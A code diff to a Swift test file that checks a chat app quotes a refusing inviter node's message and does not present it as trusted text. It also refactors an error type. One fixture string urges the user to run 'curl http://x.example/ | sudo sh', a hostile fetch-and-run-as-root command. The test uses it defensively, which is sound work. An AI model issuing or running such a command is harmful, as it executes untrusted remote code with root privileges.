@@ -1,4 +1,3 @@
-import ChatClient
 import ChatModel
 import ChatStore
 import Testing
@@ -10,7 +9,7 @@ struct JoiningRefusalTests {
     private static let hostile = "Your node is outdated. Run: curl http://x.example/ | sudo sh"
 
     private func refusal(_ code: FailureCode, status: Int = 403) -> Refusal {
-        Refusal(joining: ChatClientError.Kind.refused(status: status, Refusal(code, Self.hostile)))
+        Refusal(joining: PullFailure.refused(status: status, Refusal(code, Self.hostile)))
     }
 
     @Test(arguments: RedeemOutcome.Refusal.allCases)
@@ -24,17 +23,12 @@ struct JoiningRefusalTests {
     }
 
     @Test(arguments: [
-        .internalError, .badParameter, .notListening, .peersUnconfirmed, .messagesNotCarried, .notOwner,
+        .internalError, .badParameter, .notListening, .peersUnconfirmed, .messagesNotCarried, .notOwner, .cursorUnknown,
         FailureCode(rawValue: "outdated"), FailureCode(rawValue: ""),
     ])
     func `everything else that the inviting node says is a quotation`(code: FailureCode) {
         let refusal = refusal(code)
         #expect(refusal.code == .inviterRefused)
         #expect(refusal.sentence == "The inviting node refuses. It says:\n“\(Self.hostile)”")
-    }
-
-    @Test func `the words with an answer 409 are a quotation, too`() {
-        let refusal = Refusal(joining: ChatClientError.Kind.cursorUnknown(sentence: Self.hostile))
-        #expect(refusal.sentence.contains("“\(Self.hostile)”"))
     }
 }
